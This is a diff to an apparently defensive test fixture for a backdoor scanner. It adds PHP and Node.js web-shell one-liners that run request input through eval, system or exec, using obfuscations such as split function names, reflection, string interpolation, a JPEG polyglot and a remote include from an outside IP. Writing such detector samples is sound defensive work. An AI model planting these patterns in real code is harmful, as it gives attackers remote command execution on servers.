@@ -14,6 +14,24 @@ const put = (line: string, into = MODULE): string =>
 const b64 = 'QUJDREVGR0g'.repeat(30);
 
 export const BACK_DOORS: readonly Sample[] = [
+  [
+    'behind what looks like a tag by chance',
+    'u/a.jpg',
+    null,
+    '\xff\xd8<? $\'\x01\x02<?php eval($_POST["x"]);',
+  ],
+  ['in a string that is filled in', 'a.php', MODULE, put('$x = "{${eval($_POST[1])}}";')],
+  ['in a heredoc that is filled in', 'a.php', MODULE, put('$x = <<<A\n{$f(eval($_POST[1]))}\nA;')],
+  ['a command by its name', 'a.php', MODULE, put("array_walk($_GET, 'sys' . 'tem');")],
+  ['a string that is called', 'a.php', MODULE, put("('pass'.'thru')($_GET['c']);")],
+  ['a name in brackets that is called', 'a.php', MODULE, put("(system)($_GET['c']);")],
+  ['by reflection', 'a.php', MODULE, put("(new ReflectionFunction('system'))->invoke($_GET['c']);")],
+  ['input by another name', 'a.php', MODULE, put("eval(filter_input(INPUT_POST, 'c'));")],
+  ['input through the globals', 'a.php', MODULE, put("eval($GLOBALS['_P'.'OST']['c']);")],
+  ['a data address', 'a.php', MODULE, put("include 'data:text/plain;base64,PD9waHA=';")],
+  ['another server', 'a.php', MODULE, put("@include('http://203.0.113.9/a.txt');")],
+  ['a template literal', 'server.js', 'a();', 'a(); const h = `<p>${eval(req.query.c)}</p>`;'],
+  ['a request by another name', 'server.js', 'a();', 'a(); s.on("request", (q) => exec(q.headers["x-c"]));'],
   ['eval of a parameter', 'a.php', MODULE, put('@eval($_POST["x"]);')],
   ['with a comment in between', 'a.php', MODULE, put('eval/*x*/ ( /**/ $_REQUEST [ "x" ] );')],
   ['in capitals', 'a.php', MODULE, put('EVAL($_COOKIE["x"]);')],
@@ -281,6 +299,12 @@ const list = (count: number, line: (n: number) => string): string =>
 
 /** What honest shops, frameworks and their suppliers ship: quiet, all of it. */
 export const HONEST: readonly Sample[] = [
+  [
+    'a template engine that includes what it made',
+    'vendor/lc/C.php',
+    null,
+    "<?php function p($php) { return include('data://text/plain,' . urlencode($php)); }",
+  ],
   [
     'a list of files in strings',
     'update.php',
